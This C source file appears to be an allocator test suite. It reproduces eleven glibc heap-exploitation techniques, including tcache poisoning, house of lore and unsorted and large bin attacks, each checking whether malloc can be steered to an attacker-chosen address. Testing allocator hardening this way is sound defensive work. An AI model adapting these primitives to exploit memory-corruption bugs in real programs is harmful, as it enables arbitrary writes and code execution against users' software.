// SPDX-License-Identifier: MIT
/*
 * A dangling pointer or an overflow writes into free objects, in which many
 * allocators keep the links of their free lists. The goal: malloc returns an
 * address that the attacker has chosen (Faults B34).
 */
#include "attack.h"

#define SIZE 64
#define CACHED 7
#define MANY 100

/* Known as tcache poisoning. */
static bool hidden_link_overwritten(void)
{
	uint64_t *first = take(SIZE), *second = take(SIZE);

	drop(first);
	drop(second);
	second[0] = mangled(target, second);
	return reaches_target(SIZE);
}

static bool plain_link_overwritten(void)
{
	uint64_t *objects[MANY];

	for (int i = 0; i < MANY; i++)
		objects[i] = take(SIZE);
	for (int i = 0; i < MANY; i++)
		drop(objects[i]);
	for (int i = 0; i < MANY; i++)
		objects[i][0] = (uintptr_t)target;
	return reaches_target(SIZE);
}

/* The list that glibc uses when its cache is empty, and which checks the chunk's size. */
static bool fast_list_overwritten(void)
{
	uint64_t *cached[CACHED], *object;

	for (int i = 0; i < CACHED; i++)
		cached[i] = take(SIZE);
	object = take(SIZE);
	for (int i = 0; i < CACHED; i++)
		drop(cached[i]);
	drop(object);
	put_size(target + 2, 0x51);
	object[0] = mangled(target, object);
	target[2] = mangled(NULL, target + 2);
	return reaches_target(SIZE);
}

/* Known as fastbin reverse into tcache: a refill of the cache takes the list over. */
static bool fast_list_into_cache(void)
{
	uint64_t *objects[2 * CACHED];

	for (int i = 0; i < 2 * CACHED; i++)
		objects[i] = take(SIZE);
	for (int i = 0; i < 2 * CACHED; i++)
		drop(objects[i]);
	objects[CACHED][0] = mangled(target, objects[CACHED]);
	return reaches_target(SIZE);
}

/* A linear overflow runs from a live object into the free object above it. */
static bool overflows_into_free(bool is_mangled)
{
	char *lower = take(SIZE), *upper = take(SIZE), *third = take(SIZE);
	uint64_t link;

	if (lower > upper) {
		char *swapped = lower;

		lower = upper;
		upper = swapped;
	}
	drop(third);
	drop(upper);
	if (upper - lower > 4096)
		return false;
	memset(lower, 0, (size_t)(upper - lower));
	put_size(upper, 0x51);
	link = is_mangled ? mangled(target, upper) : (uintptr_t)target;
	memcpy(upper, &link, sizeof(link));
	return reaches_target(SIZE);
}

static bool overflow_with_hidden_link(void)
{
	return overflows_into_free(true);
}

static bool overflow_with_plain_link(void)
{
	return overflows_into_free(false);
}

/* Known as tcache stashing unlink: calloc refills the cache from a list of small chunks. */
static bool small_list_into_cache(void)
{
	uint64_t *objects[9];

	for (int i = 0; i < 9; i++)
		objects[i] = take(0x90);
	target[3] = (uintptr_t)&target[8];
	for (int i = 3; i < 9; i++)
		drop(objects[i]);
	drop(objects[1]);
	drop(objects[0]);
	drop(objects[2]);
	take(0xa0);
	take(0x90);
	take(0x90);
	objects[2][1] = (uintptr_t)target;
	opaque(calloc(1, 0x90));
	return is_in_target(take(0x90));
}

/* Known as house of lore. */
static bool small_list_overwritten(void)
{
	uint64_t *cached[CACHED], *object;

	for (int i = 0; i < CACHED; i++)
		cached[i] = take(0x100);
	object = take(0x100);
	take(0x100);
	for (int i = 0; i < CACHED; i++)
		drop(cached[i]);
	drop(object);
	take(0x500);
	for (int i = 0; i < 10; i++) { /* a chain of fake chunks, 48 words each */
		uint64_t *fake = target + (size_t)48 * (unsigned int)i;

		fake[2] = (uintptr_t)(i ? fake - 48 : object - 2);
		fake[3] = (uintptr_t)(i < 9 ? fake + 48 : fake);
	}
	object[1] = (uintptr_t)target;
	return reaches_target(0x100);
}

/*
 * Overwrites a list head among the objects: glibc's cache structure is the first chunk of the heap.
 */
static bool cache_overwritten(void)
{
	uint64_t *object = take(SIZE);
	uint64_t *page = (uint64_t *)((uintptr_t)object & ~(uintptr_t)4095);

	if ((char *)object - (char *)page < 0x290)
		return false;
	for (int i = 0; i < 16; i++)
		page[2 + i] = 0x0001000100010001;
	for (int i = 0; i < 64; i++)
		page[18 + i] = (uintptr_t)target;
	return reaches_target(SIZE);
}

/* Known as unsorted bin attack: a pointer is written to the target. */
static bool unsorted_list_overwritten(void)
{
	uint64_t *object = take(0x410 + 0x100);

	take(0x20);
	drop(object);
	object[1] = (uintptr_t)target;
	take(0x410 + 0x100);
	return target[2] != 0;
}

/* Known as large bin attack; the same goal. */
static bool size_list_overwritten(void)
{
	uint64_t *longer = take(0x428), *shorter;

	take(0x18);
	shorter = take(0x418);
	take(0x18);
	drop(longer);
	take(0x438);
	drop(shorter);
	longer[3] = (uintptr_t)target - 0x20;
	take(0x438);
	return target[0] != 0;
}

static const struct attack attacks[] = {
	ATTACK(hidden_link_overwritten),   ATTACK(plain_link_overwritten),
	ATTACK(fast_list_overwritten),	   ATTACK(fast_list_into_cache),
	ATTACK(overflow_with_hidden_link), ATTACK(overflow_with_plain_link),
	ATTACK(small_list_into_cache),	   ATTACK(small_list_overwritten),
	ATTACK(cache_overwritten),	   ATTACK(unsorted_list_overwritten),
	ATTACK(size_list_overwritten),
};

ATTACK_MAIN(attacks)
